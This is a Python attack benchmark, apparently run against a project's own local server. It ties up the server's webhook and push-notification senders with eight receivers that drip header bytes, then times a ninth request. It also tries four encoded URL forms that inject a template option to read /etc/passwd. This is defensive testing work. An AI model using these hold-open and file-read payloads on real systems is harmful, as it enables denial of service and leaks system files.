"""Receivers made to hold the server, and an address that reads a file of it.

    python benchmarks/attack/receivers.py [--port 8130] [--source OTHER/src] [--json]

Eight people have each a receiver that answers with a byte every three seconds. A ninth person sends one message to a
receiver that answers at once, a second after the eight began. Counted is how long that message took.
"""

import socketserver
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
from server import Figures, Person, Server, read_options, report, served, watching

DRIPPING = 8
EVERY_S = 3.0
HEAD_START_S = 1.0
NATIVE = "https://discord.com/api/webhooks/417421629800000000/JHMHI8qBe7bk2ZwO5U711o3dV_jsJHMHI8qBe7bk2ZwO5U711o3dV_js"
FORMS = ("{}?template={}", "{}?TEMPLATE={}", "{}?te%6dplate={}", "{}?footer=yes;template={}")


def main() -> int:
    options = read_options(__doc__, port=8130)
    with served(options.port, options.source, ALLOW_PRIVATE_TARGETS="true") as server, dripping() as slow, answering() as quick:
        report([_read_file(server), _webhooks(server, slow, quick), _notifications(server, slow, quick)], options.json)
    return 0


def _read_file(server: Server) -> Figures:
    attacker = server.sign_up("reader")
    with watching(server) as watch:
        statuses = [_try_address(attacker, form.format(NATIVE, "/etc/passwd")) for form in FORMS]
    taken = statuses.count(200)
    return watch.figures("An address whose option reads a file", note=f"{taken} of {len(FORMS)} forms taken: {statuses}")


def _try_address(person: Person, address: str) -> int:
    with suppress(httpx.HTTPError):
        return person.client.put("/me/notifications", json={"targets": [{"url": address}]}, headers={"If-Match": "*"}).status_code
    return 0


def _webhooks(server: Server, slow: str, quick: str) -> Figures:
    def prepare(handle: str, address: str) -> Callable[[], Any]:
        person = server.sign_up(handle)
        agent = person.make_agent(f"{handle}-agent")
        hook = person.request("POST", f"/avees/{agent}/webhooks", {"url": f"http://{address}/"})["id"]
        return lambda: person.request("POST", f"/avees/{agent}/webhooks/{hook}/test")

    return _hold(server, "Eight webhooks that drip; a ninth", "hook", prepare, slow, quick)


def _notifications(server: Server, slow: str, quick: str) -> Figures:
    def prepare(handle: str, address: str) -> Callable[[], Any]:
        person = server.sign_up(handle)
        person.request("PUT", "/me/notifications", {"targets": [{"url": f"ntfy://{address}/news"}]})
        return lambda: person.request("POST", "/me/notifications/test")["items"][0]

    return _hold(server, "Eight push services that drip; a ninth", "push", prepare, slow, quick)


def _hold(server: Server, attack: str, name: str, prepare: Callable[[str, str], Callable[[], Any]], slow: str, quick: str) -> Figures:
    attacks, ninth = [prepare(f"{name}{number}", slow) for number in range(DRIPPING)], prepare(f"{name}-ninth", quick)
    ninth()
    with watching(server) as watch, ThreadPoolExecutor(DRIPPING) as threads:
        begun = time.perf_counter()
        held = [threads.submit(_time, attack_one) for attack_one in attacks]
        time.sleep(HEAD_START_S)
        waited, result = _time(ninth)
        ended = [done.result()[1] for done in held]
        longest = time.perf_counter() - begun
    note = f"the ninth: {_outcome(result)}; the eight after {longest:.0f} s: {_outcome(ended[0])}"
    return watch.figures(attack, waited, note)


def _time(work: Callable[[], Any]) -> tuple[float, Any]:
    begun = time.perf_counter()
    try:
        result = work()
    except httpx.HTTPError as error:
        result = {"is_sent": False, "error": type(error).__name__}
    return time.perf_counter() - begun, result


def _outcome(result: Any) -> str:
    return "sent" if result["is_sent"] else f"not sent ({result['error']})"


@contextmanager
def dripping() -> Iterator[str]:
    """The address of a receiver that never ends its headers."""
    ended = threading.Event()

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            with suppress(OSError):
                self.request.sendall(b"HTTP/1.1 200 OK\r\nx-drip: ")
                while not ended.wait(EVERY_S):
                    self.request.sendall(b"x")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as receiver:
        receiver.daemon_threads = True
        threading.Thread(target=receiver.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{receiver.server_address[1]}"
        ended.set()
        receiver.shutdown()


@contextmanager
def answering() -> Iterator[str]:
    """The address of a receiver that answers at once."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("content-length", 0)))
            self.send_response(200)
            self.send_header("content-length", "2")
            self.end_headers()
            self.wfile.write(b"{}")

        def log_message(self, *arguments: Any) -> None:
            """Silent."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as receiver:
        threading.Thread(target=receiver.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{receiver.server_port}"
        receiver.shutdown()


if __name__ == "__main__":
    sys.exit(main())
